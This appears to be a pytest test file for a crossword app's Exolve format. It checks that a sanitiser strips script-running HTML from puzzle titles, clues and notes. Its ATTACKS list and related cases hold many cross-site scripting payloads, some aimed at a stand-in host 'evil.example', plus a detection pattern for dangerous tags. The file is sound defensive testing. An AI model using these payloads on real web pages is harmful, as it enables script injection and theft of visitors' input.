"""What strangers' web pages would run is taken out of Exolve files, when they are read and when they are written."""

from dataclasses import replace
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from crossword_app.formats.exolve.reader import read_exolve
from crossword_app.formats.exolve.safe_html import clean
from crossword_app.formats.exolve.writer import write_exolve
from crossword_app.formats.ipuz.writer import write_ipuz
from crossword_app.formats.registry import read_puzzle
from crossword_app.model.grid import Grid
from crossword_app.model.own_data import EXOLVE
from crossword_app.model.puzzle import Clue, Puzzle

FILE = """exolve-begin
  exolve-width: 3
  exolve-height: 3
  exolve-title: {title}
  exolve-maker:
    {maker}
  exolve-preamble:
    {preamble}
  exolve-question: {question}
  exolve-explanations:
    {explanations}
  exolve-grid:
    CAT
    A.O
    RYE
  exolve-across:
    1 Pet {clue} (3)
exolve-end
"""
PLACES = ("title", "maker", "preamble", "question", "explanations", "clue")

ATTACKS = (
    "<script>alert(1)</script>",
    "<SCRIPT src=//evil.example></SCRIPT >",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1) ",
    "<img/src=x/onerror=alert(1)>",
    '<b onmouseover="alert(1)">bold</b>',
    "<a href='java&#10;script:alert(1)'>here</a>",
    '<a href=" JavaScript:alert(1)">here</a>',
    "<svg onload=alert(1)><circle/></svg>",
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "<object data=x.swf></object>",
    "<embed src=x>",
    '<div style="background: url(javascript:alert(1))">grey</div>',
    '<div style="position: fixed; top: 0">over all</div>',
    "<form action=//evil.example><input name=key></form>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<a href=data:text/html,<script>alert(1)</script>>here</a>",
    "<x onclick=alert(1)>click</x>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
)


class Looking(HTMLParser):
    """Notes what a page would run, as an independent reader of HTML sees it."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("script", "svg", "iframe", "object", "embed", "form", "meta", "x"):
            self.found.append(tag)
        for name, value in attrs:
            told = "".join((value or "").lower().split())
            if name.startswith("on") or told.startswith(("javascript:", "data:text")):
                self.found.append(name)
            if name == "style" and ("url(" in told or "position" in told):
                self.found.append(name)


def run_by(text: str) -> list[str]:
    looking = Looking()
    looking.feed(text)
    looking.close()
    return looking.found


def with_attack(attack: str) -> bytes:
    return FILE.format(**dict.fromkeys(PLACES, f"before {attack} after")).encode()


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_a_page_would_run_is_gone_once_a_file_was_read_and_that_is_told(attack: str) -> None:
    loaded = read_exolve(with_attack(attack))
    assert any("a web page could run" in warning for warning in loaded.warnings)
    puzzle = loaded.puzzle
    kept = [*map(str, puzzle.extra.values()), *(clue.markup for clue in puzzle.all_clues)]
    assert [run_by(text) for text in kept] == [[] for _ in kept]
    again = write_exolve(puzzle)
    assert run_by(again.content.decode()) == []
    assert not any("a web page could run" in loss for loss in again.losses)
    assert b"before" in again.content


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_document_that_carries_it_writes_none_of_it_and_that_is_told(attack: str) -> None:
    clean_puzzle = read_exolve(with_attack("")).puzzle
    slot = clean_puzzle.grid.slots[0]
    hostile = replace(
        clean_puzzle,
        notes="x",
        extra=EXOLVE.put_into(
            {**clean_puzzle.extra, "intro": f"first\n{attack}\nlast"}, (("maker", attack),)
        ),
        clues={slot.key: Clue("Pet", markup=f"Pet {attack}")},
        headings={slot.direction: f"Across {attack}"},
    )
    reopened = read_puzzle(write_ipuz(hostile), "mine.ipuz").puzzle
    written = write_exolve(reopened)
    assert run_by(written.content.decode()) == []
    assert any("a web page could run" in loss for loss in written.losses)


def test_several_lines_are_one_text() -> None:
    content = FILE.format(**dict.fromkeys(PLACES, "-")).replace(
        "exolve-preamble:\n    -",
        "exolve-preamble:\n    Hello\n    <img\n    onerror=alert(1)\n    src=x>\n    <script>\n    alert(1)\n"
        "    </script>\n    <a\n    href='https://example.org'>there</a>",
    )
    intro = read_exolve(content.encode()).puzzle.extra["intro"]
    assert intro == "Hello\n<img src=x>\n<a href='https://example.org'>there</a>"


HARMLESS = (
    "<i>Hamlet</i> &amp; <b>more</b><br/>",
    '<a href="https://example.org/a?b=c:d" target="_blank">there</a>',
    '<img src="data:image/png;base64,AAAA" alt="a cat" width=20>',
    '<div style="color: #ff0000; font-size: 90%">red</div>',
    "<table><tr><td colspan=2>one</td></tr></table>",
    "I <3 you, 1 < 2 & 3 > 2",
    "<!-- a note -->",
)


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_harmless_stays_letter_for_letter(text: str) -> None:
    removed: list[str] = []
    assert clean(text, removed) == text
    loaded = read_exolve(with_attack(text))
    assert not any("a web page could run" in warning for warning in loaded.warnings)
    assert loaded.puzzle.extra["intro"] == f"before {text} after"


def test_what_people_write_in_angles_stays_text() -> None:
    puzzle = replace(read_exolve(with_attack("")).puzzle, notes="Second line: <see below>")
    written = write_exolve(puzzle)
    assert not any("a web page could run" in loss for loss in written.losses)
    assert read_exolve(written.content).puzzle.notes == "Second line: <see below>"


PIECES = (
    "<|>|/|!|--|=|\"|'| |\n|script|img|b|a|svg|onerror|href|javascript:|alert(1)|style|position|:|x|&lt;|&#10;|"
    "<!--|-->|</script>|<b |<img src="
).split("|")


@pytest.mark.parametrize(
    "text",
    [
        "<<script></script>script>alert(1)</script>",
        "<<script></script><script></script>img src=x onerror=alert(1)>",
        "<<!-- < -->svg onload=alert(1)>",
        "<</script>/",
    ],
)
def test_what_is_taken_out_joins_nothing_to_a_tag(text: str) -> None:
    once = clean(text, [])
    assert run_by(once) == run_by(f"{once}</script>") == []
    assert once.startswith("&lt;")
    assert clean(once, []) == once


@given(st.lists(st.sampled_from(PIECES), max_size=24).map("".join))
def test_whatever_is_put_together_runs_nothing_and_is_clean_at_once(text: str) -> None:
    removed: list[str] = []
    once = clean(text, removed)
    assert run_by(once) == []
    assert run_by(f"{once}\n x=y> onerror=z>") == []  # whatever follows it in the page
    again: list[str] = []
    assert clean(once, again) == once
    assert again == []


@pytest.mark.parametrize(
    "text",
    [
        "<" * 200_000,
        "<a " * 70_000,
        "<!--" * 50_000,
        "<script>" * 30_000,
        f"<b{' ' * 500_000}",
        f"<b style='a:{' ' * 500_000}!'>",
        f"<b{' a=1' * 200_000}",
    ],
    ids=lambda text: text[:12],
)
def test_no_text_takes_long(text: str) -> None:
    """Files may have megabytes. What needs time by the square of their length would not end here."""
    assert run_by(clean(text, [])) == []


def test_a_puzzle_without_such_texts_is_unchanged() -> None:
    puzzle: Puzzle = read_exolve(with_attack("and")).puzzle
    assert read_exolve(write_exolve(puzzle).content).puzzle == puzzle


@pytest.mark.parametrize(
    ("address", "is_kept"),
    [
        ("https://example.org/in?of=a:b", True),
        ("answers/in", True),
        ("javascript:alert(1)//", False),
        ("java&#10;script:alert(1)//", False),
        ("data:text/html,x", False),
    ],
)
def test_an_address_to_submit_to_is_one(address: str, is_kept: bool) -> None:
    puzzle = Puzzle(Grid.parse("AB\nCD"))
    puzzle = replace(puzzle, extra=EXOLVE.put_into(puzzle.extra, (("submit", address),)))
    written = write_exolve(puzzle)
    assert (address in written.content.decode()) is is_kept
    assert any("exolve-submit" in loss for loss in written.losses) is not is_kept
